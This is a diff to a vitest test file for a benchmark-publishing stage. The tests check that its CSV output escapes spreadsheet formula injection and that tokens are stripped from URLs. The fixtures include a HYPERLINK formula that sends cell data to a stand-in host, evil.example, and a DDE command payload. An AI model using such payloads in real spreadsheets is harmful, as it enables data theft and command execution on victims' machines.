@@ -1,6 +1,10 @@
+import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { checkSchema, type Instance, type InstanceVerification, type Labels, type VerificationReport } from '@junobench/core';
-import { assembleBenchmark, formatBenchmarkCsv } from './stage-benchmark.js';
+import { checkSchema, formatJson, type Benchmark, type Instance, type InstanceVerification, type Labels, type VerificationReport } from '@junobench/core';
+import { BENCHMARK_CSV_COLUMNS, assembleBenchmark, createBenchmarkStage, formatBenchmarkCsv } from './stage-benchmark.js';
 
 const labels: Labels = { library: 'pandas', crashType: 'key error', rootCause: 'API misuse', pipelineStage: 'data preparation', diagnosis: 'column renamed, "price" gone' };
 const instance = (id: string): Instance => ({
@@ -52,5 +56,64 @@ describe('assembleBenchmark', () => {
     expect(lines[0]).toMatch(/^id,platform,notebook_url,datasets,dataset_licenses/);
     expect(lines).toHaveLength(3);
     expect(lines[1]).toContain('"column renamed, ""price"" gone"');
+  });
+});
+
+describe('benchmark.csv is safe to open in a spreadsheet', () => {
+  const hostile = {
+    ...instance('f'),
+    crash: { ename: 'ValueError', evalue: '=HYPERLINK("http://evil.example/?"&A1,"click")', match: 'exact' as const, cell: 3 },
+    source: { platform: 'kaggle' as const, datasets: [{ title: '@SUM(1+1)*cmd|/C calc!A0', license: '+CC0', url: 'https://k/d' }] },
+  };
+  const b = assembleBenchmark([hostile], { ...report, instances: [verdict('f', 'verified')] }, { f: { ...labels, diagnosis: '-2+3 then\ttab' } }, { name: 'JunoBench' });
+
+  it('neutralises cells beginning with = + - @ tab CR (read back with a CSV parser), while the JSON keeps the exact text', () => {
+    const rows = parse(formatBenchmarkCsv(b), { columns: true }) as Record<(typeof BENCHMARK_CSV_COLUMNS)[number], string>[];
+    expect(rows[0]).toMatchObject({
+      crash_evalue: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
+      datasets: `'@SUM(1+1)*cmd|/C calc!A0`,
+      dataset_licenses: `'+CC0`,
+      diagnosis: `'-2+3 then\ttab`,
+      id: 'f',
+    });
+    for (const cell of Object.values(rows[0]!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(b.instances[0]!.crash.evalue).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
+    expect(b.instances[0]!.labels.diagnosis).toBe('-2+3 then\ttab');
+  });
+});
+
+describe('credentials in URLs are not published', () => {
+  const secretUrl = 'https://someone:ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/o/r/blob/main/nb.ipynb?access_token=s3cr3t&plain=1';
+  const leaky: Instance = {
+    ...instance('leaky'),
+    source: { platform: 'github', notebookUrl: secretUrl, datasets: [{ title: 'D', license: 'CC0', url: 'https://data.example/d.zip?token=tok123' }] },
+  };
+
+  it('strips user-info and token parameters from benchmark.json/.csv and curated instance.json, warning with the instance', async () => {
+    const root = await mkdtemp(path.join(tmpdir(), 'junobench-stage-benchmark-'));
+    try {
+      const dir = path.join(root, 'raw/instances/leaky');
+      await mkdir(dir, { recursive: true });
+      await writeFile(path.join(dir, 'instance.json'), formatJson(leaky));
+      await writeFile(path.join(root, 'verification.json'), formatJson({ ...report, summary: { total: 1, verified: 1, notVerified: 0, skipped: 0, flaky: 0 }, instances: [verdict('leaky', 'verified')] }));
+      await writeFile(path.join(root, 'final-labels.jsonl'), `${JSON.stringify({ instance: 'leaky', labels, sources: { library: 'agreed', crashType: 'agreed', rootCause: 'agreed', pipelineStage: 'agreed' } })}\n`);
+      const stage = createBenchmarkStage({ instancesDir: 'raw/instances', verification: 'verification.json', finalLabels: 'final-labels.jsonl', outDir: 'curated' });
+      const result = await stage.run({ root, abs: (p) => path.resolve(root, p), onProgress: () => undefined });
+      const published = ['curated/benchmark.json', 'curated/benchmark.csv', 'curated/instances/leaky/instance.json'];
+      for (const f of published) {
+        const text = await readFile(path.join(root, f), 'utf8');
+        expect(text, f).not.toMatch(/ghp_|s3cr3t|tok123|someone/);
+      }
+      const json = JSON.parse(await readFile(path.join(root, 'curated/benchmark.json'), 'utf8')) as Benchmark;
+      expect(json.instances[0]!.source).toMatchObject({ notebookUrl: 'https://github.com/o/r/blob/main/nb.ipynb?plain=1', datasets: [{ url: 'https://data.example/d.zip' }] });
+      expect(result.warnings).toEqual([
+        'leaky: removed credentials from source.notebookUrl (user-info, access_token parameter) before publishing; fix raw/instances/leaky/instance.json',
+        'leaky: removed credentials from source.datasets[0].url (token parameter) before publishing; fix raw/instances/leaky/instance.json',
+      ]);
+      // The raw instance itself is left as it is (the warning says to fix it).
+      expect(await readFile(path.join(dir, 'instance.json'), 'utf8')).toContain('s3cr3t');
+    } finally {
+      await rm(root, { recursive: true, force: true });
+    }
   });
 });
